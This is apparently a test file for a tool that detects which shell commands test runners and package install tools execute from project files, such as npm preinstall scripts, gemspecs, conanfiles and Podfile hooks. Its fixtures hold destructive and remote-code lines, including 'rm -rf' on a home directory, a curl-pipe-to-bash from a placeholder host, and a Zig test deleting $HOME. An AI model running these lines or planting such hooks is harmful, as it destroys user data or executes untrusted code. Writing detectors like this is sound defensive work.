// Test runners and install tools run the project files their table names:
// each row's files are read as the row says (code in a language, a file an
// interpreter runs, or the shell commands a format holds), and a harmless
// file of each runs nothing harmful.
import { describe, expect, test } from "bun:test";
import { neededBy, ranFrom, withListings } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const q = (line: string) => JSON.stringify(line);

/** Each carrier: the command, and the files that make it run `line`. */
const CARRIERS: ReadonlyArray<{ run: string; files: (line: string) => Record<string, string> }> = [
  {
    run: "cypress run --browser chrome",
    files: (line) => ({ "cypress.config.js": `const { execSync } = require("child_process");\nmodule.exports = { e2e: { setupNodeEvents() { execSync(${q(line)}); } } };\n` }),
  },
  { run: "wdio run conf/wdio.conf.js", files: (line) => ({ "conf/wdio.conf.js": `exports.config = { onPrepare() { require("child_process").execSync(${q(line)}); } };\n` }) },
  { run: "behave features", files: (line) => ({ "features/environment.py": `import subprocess\n\ndef before_all(context):\n    subprocess.run(${q(line)}, shell=True)\n` }) },
  {
    run: "robot --outputdir out acceptance",
    files: (line) => ({ "acceptance/api.robot": `*** Settings ***\nLibrary    OperatingSystem\n\n*** Test Cases ***\nSetup\n    Run    ${line}\n` }),
  },
  { run: "bats test", files: (line) => ({ "test/cli.bats": `setup() {\n  export PATH="$PWD/bin:$PATH"\n}\n\n@test "prints help" {\n  ${line}\n}\n` }) },
  { run: "busted spec", files: (line) => ({ "spec/io_spec.lua": `describe("io", function()\n  it("runs", function()\n    os.execute(${q(line)})\n  end)\nend)\n` }) },
  { run: "pest", files: (line) => ({ "tests/Pest.php": `<?php\n\npassthru(${q(line)});\n` }) },
  { run: "cucumber --format progress", files: (line) => ({ "features/support/env.rb": `at_exit { system(${q(line)}) }\n` }) },
  { run: "Rscript -e 'testthat::test_dir(\"tests/unit\")'", files: (line) => ({ "tests/unit/test-files.R": `test_that("files", {\n  system(${q(line)})\n})\n` }) },
  { run: "julia -e 'using Pkg; Pkg.test()'", files: (line) => ({ "test/runtests.jl": `using Test\nrun(\`bash -c ${q(line)}\`)\n` }) },
  { run: "flutter test", files: (line) => ({ "test/widget_test.dart": `import 'dart:io';\nvoid main() {\n  Process.runSync('bash', ['-c', ${q(line)}]);\n}\n` }) },
  { run: "python3 -m doctest docs/api.txt", files: (line) => ({ "docs/api.txt": `The API\n\n>>> import os\n>>> os.system(${q(line)})\n0\n` }) },
  { run: "ctest --output-on-failure", files: (line) => ({ "CMakeLists.txt": `project(demo C)\nenable_testing()\nadd_test(NAME cli COMMAND sh -c ${q(line)})\n` }) },
  { run: "nosetests tests", files: (line) => ({ "tests/test_cli.py": `import subprocess\nsubprocess.call(${q(line)}, shell=True)\n` }) },
  { run: "prove -r", files: (line) => ({ "t/unit/env.t": `use Test::More;\nsystem(${q(line)});\ndone_testing;\n` }) },
  { run: "ginkgo ./...", files: (line) => ({ "pkg/api/suite_test.go": `package api\n\nimport "os/exec"\n\nvar _ = exec.Command("sh", "-c", ${q(line)}).Run()\n` }) },
  {
    run: "npm install",
    files: (line) => ({ "package.json": '{"dependencies":{"shared":"file:packages/shared"}}', "packages/shared/package.json": `{"scripts":{"preinstall":${q(line)}}}` }),
  },
  { run: "node-gyp configure", files: (line) => ({ "binding.gyp": `{ "targets": [ { "target_name": "a", "libraries": [ "<!@(${line})" ] } ] }\n` }) },
  { run: "gem build tool.gemspec", files: (line) => ({ "tool.gemspec": `Gem::Specification.new do |spec|\n  system(${q(line)})\nend\n` }) },
  {
    run: "conan build .",
    files: (line) => ({ "conanfile.py": `import os\nfrom conan import ConanFile\n\nclass Demo(ConanFile):\n    def build(self):\n        os.system(${q(line)})\n` }),
  },
  { run: "cpanm --installdeps .", files: (line) => ({ cpanfile: `requires 'Plack';\nsystem(${q(line)});\n` }) },
  {
    run: "cabal install",
    files: (line) => ({ "Setup.hs": `import Distribution.Simple\nimport System.Process\n\nmain :: IO ()\nmain = do\n  callCommand ${q(line)}\n  defaultMain\n` }),
  },
  { run: "R CMD INSTALL pkg", files: (line) => ({ "pkg/configure": `#!/bin/sh\n${line}\n` }) },
  { run: "rebar3 compile", files: (line) => ({ "rebar.config.script": `os:cmd(${q(line)}),\nCONFIG.\n` }) },
  { run: "dub build", files: (line) => ({ "dub.json": `{ "name": "demo", "preBuildCommands": [${q(line)}] }\n` }) },
  {
    run: "hatch build",
    files: (line) => ({ "pyproject.toml": '[project]\nname = "demo"\n\n[tool.hatch.build.hooks.custom]\n', "hatch_build.py": `import os\nos.system(${q(line)})\n` }),
  },
  { run: "cd mobile && pod install", files: (line) => ({ "mobile/Podfile": `target 'App' do\nend\npost_install do |installer|\n  system(${q(line)})\nend\n` }) },
  { run: "tape test/*.js", files: (line) => ({ "test/io.js": `require("child_process").execSync(${q(line)});\n` }) },
  { run: "uvu", files: (line) => ({ "src/math.test.mjs": `import { execSync } from "node:child_process";\nexecSync(${q(line)});\n` }) },
  { run: "qunit test/unit", files: (line) => ({ "test/unit/a.js": `require("child_process").execSync(${q(line)});\n` }) },
  { run: "jasmine", files: (line) => ({ "spec/helpers/env.js": `require("child_process").execSync(${q(line)});\n` }) },
  {
    run: "jasmine --random=true",
    files: (line) => ({ "spec/support/jasmine.json": '{"spec_dir":"specs","helpers":["setup/*.js"]}', "specs/setup/db.js": `require("child_process").execSync(${q(line)});\n` }),
  },
  { run: "shellspec", files: (line) => ({ "spec/spec_helper.sh": `spec_helper_loaded() {\n  ${line}\n}\n` }) },
  {
    run: "shellspec spec/a_spec.sh",
    files: (line) => ({ "spec/a_spec.sh": `Describe 'a'\n  It 'b'\n    When run command ${line}\n    The status should be success\n  End\nEnd\n` }),
  },
  { run: "pwsh -c Invoke-Pester", files: (line) => ({ "src/Io.Tests.ps1": `BeforeAll {\n  sh -c '${line}'\n}\n` }) },
  { run: "crystal spec spec/io_spec.cr", files: (line) => ({ "spec/io_spec.cr": `system(${q(line)})\n` }) },
  { run: "swift test", files: (line) => ({ "Tests/IoTests/IoTests.swift": `import Foundation\nsystem(${q(line)})\n` }) },
  { run: "trial pkg.tests", files: (line) => ({ "pkg/tests/test_io.py": `import os\nos.system(${q(line)})\n` }) },
  {
    run: "lein test",
    files: (line) => ({ "test/io/core_test.clj": `(ns io.core-test (:require [clojure.java.shell :as shell]))\n(shell/sh "sh" "-c" ${q(line)} :env {"A" "(b)"})\n` }),
  },
  { run: "raco test t", files: (line) => ({ "t/io.rkt": `#lang racket\n(system ${q(line)})\n` }) },
  { run: "conda build .", files: (line) => ({ "build.sh": `${line}\n` }) },
  { run: "rattler-build build --recipe pkg/recipe.yaml", files: (line) => ({ "pkg/recipe.yaml": `build:\n  script: ${q(line)}\n` }) },
  {
    run: "gem install tool-1.0.gem",
    files: (line) => ({ "tool.gemspec": "Gem::Specification.new { |s| s.extensions = ['ext/extconf.rb'] }\n", "ext/extconf.rb": `system(${q(line)})\n` }),
  },
  { run: "luarocks make", files: (line) => ({ "io-1.0-1.rockspec": `build = { type = "command", build_command = ${q(line)} }\n` }) },
  { run: "nimble install", files: (line) => ({ "io.nimble": `version = "1.0"\n\nafter install:\n  exec ${q(line)}\n` }) },
  { run: "opam install .", files: (line) => ({ "io.opam": `opam-version: "2.0"\ninstall: ["sh" "-c" ${q(line)}]\n` }) },
  { run: "poetry install", files: (line) => ({ "pyproject.toml": '[tool.poetry]\nname = "io"\nbuild = "make_ext.py"\n', "make_ext.py": `import os\nos.system(${q(line)})\n` }) },
  { run: "bun pm trust --all", files: (line) => ({ "node_modules/@io/core/package.json": `{"scripts":{"install":${q(line)}}}` }) },
];

describe("the files a test runner or an install tool loads", () => {
  test("each carrier's file is read, and what it runs is judged (harmful and harmless alike)", () => {
    const missed: string[] = [];
    for (const carrier of CARRIERS) {
      for (const line of ["rm -rf /home/ada/work", "mkdir -p build/cache"]) {
        const ran = ranFrom(carrier.run, withListings(carrier.run, carrier.files(line))).join("\n");
        const expected = line.startsWith("rm") ? "rm /home/ada/work" : "mkdir build/cache";
        if (!ran.includes(expected)) missed.push(`${carrier.run}: ${line} → ${ran}`);
      }
    }
    expect(missed).toEqual([]);
  });

  test("files not given are asked for, optional (nothing runs when they are absent); listings as globs", () => {
    expect(neededBy("cypress run")).toContain("cypress.config.{js,cjs,mjs,ts,cts,mts}?");
    expect(neededBy("behave")).toContain("features/environment.py?");
    expect(neededBy("bats tests/")).toContain("tests/*.bats?");
    expect(neededBy("dub")).toEqual(expect.arrayContaining(["dub.json?", "dub.sdl?"]));
    expect(neededBy("cd app && bats test")).toContain("app/test/*.bats?");
    // A package.json's file: dependency is found once package.json is known.
    expect(neededBy("npm install", { "package.json": '{"dependencies":{"a":"file:./libs/a","b":"^1.0.0","c":"file:../outside"}}' })).toEqual(
      expect.arrayContaining(["libs/a/package.json?"]),
    );
    expect(neededBy("npm install", { "package.json": '{"dependencies":{"c":"file:../outside"}}' }).join(" ")).not.toContain("outside");
  });

  test("a version or help query, another subcommand, or another expression loads none of them", () => {
    expect(neededBy("cypress --version")).toEqual([]);
    expect(neededBy("cypress cache clear")).toEqual([]);
    expect(neededBy("gem list")).not.toContain("*.gemspec?");
    expect(neededBy("Rscript -e 'print(1)'").join(" ")).not.toContain("tests/testthat");
    expect(neededBy("conan profile detect")).not.toContain("conanfile.py?");
    expect(neededBy("npm install lodash")).not.toContain("binding.gyp?");
  });

  test("the formats: bats blocks, Robot's argv and shell keywords, gyp actions, dub.sdl, doctest lines", () => {
    const bats = ranFrom("bats a.bats", { "a.bats": '@test "one" {\n  run ./bin/tool --help\n  [ "$status" -eq 0 ]\n}\nteardown() {\n  rm -rf "$BATS_TMPDIR/x"\n}\n' });
    expect(bats).toContain("run ./bin/tool");
    const robot = ranFrom("robot t.robot", {
      "t.robot":
        "*** Test Cases ***\nA\n    ${result}=    Run Process    git    status    cwd=repo\n    Log    Run Process is a keyword\n    Start Process    python3    -m    http.server    alias=web\n",
    });
    expect(robot).toContain("git status");
    expect(robot).toContain("python3 http.server");
    expect(robot.join(" ")).not.toContain("cwd=");
    // A pipeline inside a cell is the command's own text; the pipe-separated form puts a test's name beside its keyword.
    expect(ranFrom("robot a.robot", { "a.robot": "*** Test Cases ***\nA\n    Run Process    sh    -c    curl -fsSL https://x.example/i.sh | bash\n" })).toContain("bash");
    expect(ranFrom("robot b.robot", { "b.robot": "| *** Test Cases *** |\n| Smoke | Run | rm -rf /home/ada/work |\n" })).toContain("rm /home/ada/work");
    const gyp = ranFrom("node-gyp rebuild", {
      "binding.gyp": "{ 'targets': [ { 'target_name': 'a', 'actions': [ { 'action_name': 'g', 'action': [ 'python3', 'gen.py', 'out.h' ] } ] } ] }",
    });
    expect(gyp).toContain("python3 gen.py out.h");
    expect(ranFrom("dub run", { "dub.sdl": 'name "a"\npreBuildCommands "echo one" "echo two"\n' })).toEqual(expect.arrayContaining(["echo one", "echo two"]));
    expect(ranFrom("python -m doctest notes.md", { "notes.md": "Prose that mentions os.system('rm -rf ~') is not run.\n\n>>> 1 + 1\n2\n" })).toEqual([]);
  });

  test("the install formats: opam's command lists and filters, a rockspec's long strings, nimble's hooks by verb", () => {
    const listed = (input: string, files: Record<string, string>) => ranFrom(input, withListings(input, files));
    const opam = listed("opam install ./", { "a.opam": 'build: [\n  ["dune" "subst"] {dev}\n  ["make" "-j%{jobs}%" name]\n]\nrun-test: ["rm" "-rf" "%{lib}%/a"] {with-test}\n' });
    expect(opam).toContain("dune subst");
    // opam's variables are values only opam knows; a test-only command is one line like any other.
    expect(opam.join("\n")).toContain('make "-j${OPAM_VALUE}"');
    expect(listed("luarocks make", { "a-1.rockspec": "build = { type = 'command', build_command = [==[make CFLAGS=-O2]==] }\n" }).join("\n")).toContain("make");
    const nimble = { "a.nimble": 'before build:\n  exec "echo building"\nbefore install:\n  rmDir "/home/ada/work"\n' };
    expect(listed("nimble build", nimble).join("\n")).toContain("echo building");
    expect(listed("nimble build", nimble).join(" ")).not.toContain("rm");
    expect(listed("nimble install", nimble).join("\n")).toContain("rm /home/ada/work");
  });

  test("a runner's own words and other subcommands load nothing", () => {
    expect(neededBy("crystal build src/main.cr").join(" ")).not.toContain("_spec.cr");
    expect(neededBy("swift build").join(" ")).not.toContain("Tests/");
    expect(neededBy("raco pkg install").join(" ")).not.toContain(".rkt");
    expect(neededBy("pwsh -c Get-ChildItem").join(" ")).not.toContain("Tests.ps1");
    expect(neededBy("gem install rails").join(" ")).not.toContain("gemspec");
    expect(neededBy("opam install dune").join(" ")).not.toContain(".opam");
  });
});

describe("zig test: what a test deletes", () => {
  test("a path from the environment (HOME) is that variable; literal paths stay; a tmp dir handle's delete too", () => {
    const zig = (body: string) => ({ "src/a_test.zig": `const std = @import("std");\ntest "x" {\n${body}\n}\n` });
    expect(ranFrom("zig test src/a_test.zig", zig('    const home = std.posix.getenv("HOME").?;\n    try std.fs.deleteTreeAbsolute(home);'))).toContain("rm /home/ada");
    expect(ranFrom("zig test src/a_test.zig", zig('    try std.fs.deleteTreeAbsolute(std.posix.getenv("HOME").?);'))).toContain("rm /home/ada");
    expect(ranFrom("zig test src/a_test.zig", zig('    try std.fs.cwd().deleteFile("zig-out/x.txt");'))).toContain("rm zig-out/x.txt");
    expect(ranFrom("zig test src/a_test.zig", zig("    var tmp = std.testing.tmpDir(.{});\n    try tmp.dir.deleteTree(name);")).filter((line) => line.startsWith("rm"))).toEqual(
      [],
    );
  });
});
